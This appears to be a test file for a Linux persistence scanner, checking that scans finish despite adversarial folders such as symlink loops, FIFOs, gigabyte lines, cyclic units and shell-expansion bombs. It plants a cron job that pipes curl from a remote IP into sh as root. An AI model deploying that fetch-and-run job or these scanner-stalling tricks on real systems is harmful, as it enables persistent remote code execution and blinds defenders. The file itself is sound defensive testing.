/** Folders of an attacker who wants the scan to end early, late, or blind: each ends with a status, and hides nothing. */
import { expect, test } from 'bun:test';
import { appendFileSync, linkSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { emptyConfig } from '../../src/model/config.ts';
import type { ScanResult } from '../../src/model/result.ts';
import { scan } from '../../src/scan/scan.ts';
import { folderTarget } from '../../src/target/folder.ts';
import type { MechanismCase } from '../persistence/case.ts';
import { plantRoot } from '../persistence/root.ts';

const job = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
const seen = '/etc/cron.d/zzz';
const planted: MechanismCase = {
  mechanism: 'cron-drop-in',
  dress: 'fetch-and-run',
  what: 'a job that fetches',
  planted: { [seen]: job, '/etc/systemd/system/': '', '/etc/ssh/': '', '/etc/profile.d/': '' },
};

async function scanned(put: (at: (path: string) => string) => void): Promise<ScanResult> {
  const root = plantRoot(planted);
  const target = folderTarget(root.path);
  try {
    put((path) => {
      const at = join(root.path, path);
      mkdirSync(dirname(at), { recursive: true });
      return at;
    });
    const asked = { interval: 0, active: false, thorough: false, keepSecrets: false, seen: [] } as const;
    const { result } = await scan(target, undefined, { ...asked, language: 'en', config: emptyConfig }, '0');
    return result;
  } finally {
    await target.close();
    root.remove();
  }
}

const maliciousIn = ({ persistence }: ScanResult): readonly string[] =>
  persistence.filter(({ judgement }) => judgement === 'malicious').map(({ source }) => source);

/** A line that is all there. */
function gigabyte(at: string): void {
  const piece = new Uint8Array(16 << 20).fill(0x61);
  for (let part = 0; part < 64; part += 1) appendFileSync(at, piece);
}

const put = (at: string, text: string | Uint8Array): void => {
  rmSync(at, { force: true });
  writeFileSync(at, text);
};

const hostile: Readonly<Record<string, (at: (path: string) => string) => void>> = {
  'links that lead to themselves': (at) => {
    symlinkSync('b', at('/etc/cron.d/a'));
    symlinkSync('a', at('/etc/cron.d/b'));
    symlinkSync('.', at('/etc/cron.d/self'));
    symlinkSync('/', at('/home/root'));
    symlinkSync('..', at('/etc/profile.d/up'));
  },
  'six thousand files in cron.d': (at) => {
    for (let number = 0; number < 6000; number += 1) put(at(`/etc/cron.d/f${number}`), '');
  },
  'one line of a gigabyte': (at) => {
    for (const path of [
      '/etc/cron.d/big',
      '/etc/profile',
      '/root/.bashrc',
      '/etc/ld.so.preload',
      '/etc/sudoers',
    ]) {
      put(at(path), '');
    }
    // Written, and not a hole: what a hole says is never read. One file by all of its names.
    gigabyte(at('/etc/cron.d/big'));
    for (const path of ['/etc/profile', '/root/.bashrc', '/etc/ld.so.preload', '/etc/sudoers']) {
      rmSync(at(path));
      linkSync(at('/etc/cron.d/big'), at(path));
    }
  },
  'a pipe in the place of each file': (at) => {
    for (const path of [
      '/etc/cron.d/pipe',
      '/root/.bashrc',
      '/etc/ld.so.preload',
      '/etc/rc.local',
      '/etc/sudoers',
    ]) {
      rmSync(at(path), { force: true });
      expect(Bun.spawnSync(['mkfifo', at(path)]).exitCode).toBe(0);
    }
  },
  'units that want each other': (at) => {
    for (let number = 0; number < 300; number += 1) {
      const next = `u${(number + 1) % 300}.service`;
      put(
        at(`/etc/systemd/system/u${number}.service`),
        `[Unit]\nRequires=${next}\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=${next}\nAlso=${next}\n`,
      );
    }
  },
  'settings that include themselves': (at) => {
    put(at('/etc/ssh/sshd_config'), 'Include /etc/ssh/i/*\n'.repeat(20));
    put(at('/etc/sudoers'), '@includedir /etc/sudoers.d\n@include /etc/sudoers\n'.repeat(20));
    put(at('/etc/ld.so.conf'), 'include /etc/ld.so.conf.d/*\ninclude /etc/ld.so.conf\n');
    put(at('/etc/logrotate.conf'), 'include /etc/logrotate.d\ninclude /etc/logrotate.conf\n');
    for (let number = 0; number < 20; number += 1) {
      put(at(`/etc/ssh/i/${number}`), 'Include /etc/ssh/i/*\nInclude /etc/ssh/sshd_config\n');
      put(at(`/etc/sudoers.d/${number}`), '@includedir /etc/sudoers.d\n');
      put(at(`/etc/ld.so.conf.d/${number}`), 'include /etc/ld.so.conf.d/*\n');
      put(at(`/etc/logrotate.d/${number}`), 'include /etc/logrotate.d\n');
    }
  },
  'words that open a hundred thousand times': (at) => {
    const words = ['(', '$(', '{a,b}', '`', '"$(((', '${x:-', '<<A ', 'a=$a$a;'].map((word) =>
      word.repeat(20_000),
    );
    put(at('/etc/cron.d/words'), words.map((word) => `* * * * * root ${word}\n`).join(''));
    for (const [number, word] of words.entries())
      put(at(`/etc/profile.d/${number}.sh`), `${word}\n`.repeat(5));
  },
  'scripts that run each other and double what they hold': (at) => {
    const lines = Array.from({ length: 200 }, (_, number) => `* * * * * root sh /opt/${number}.sh\n`);
    put(at('/etc/cron.d/many'), lines.join(''));
    for (let number = 0; number < 200; number += 1) {
      put(
        at(`/opt/${number}.sh`),
        `sh /opt/${(number + 1) % 200}.sh\n${'x=$x$x$x; eval "$x"\n'.repeat(200)}`,
      );
    }
  },
};

for (const [what, plant] of Object.entries(hostile)) {
  test(`${what}: the scan ends, and the job beside it is found`, async () => {
    const result = await scanned(plant);
    expect(maliciousIn(result)).toContain(seen);
    expect(result.verdict).not.toBe('clean');
  }, 60_000);
}

test('a name that is no UTF-8 does not hide a job', async () => {
  const result = await scanned((at) => {
    const name = Buffer.concat([Buffer.from(at('/etc/cron.d/x')), Uint8Array.of(0xff, 0xfe, 0x0a)]);
    writeFileSync(name, job);
  });
  expect(maliciousIn(result)).toContain('/etc/cron.d/x%FF%FE%0A');
});

test('what could not be read to its end is told', async () => {
  const result = await scanned((at) => {
    put(at('/etc/cron.d/big'), '');
    gigabyte(at('/etc/cron.d/big'));
  });
  const told = result.sources.filter(({ listed }) =>
    listed.some(({ source }) => source === '/etc/cron.d/big'),
  );
  expect(told.map(({ status }) => status)).toContain('truncated');
});
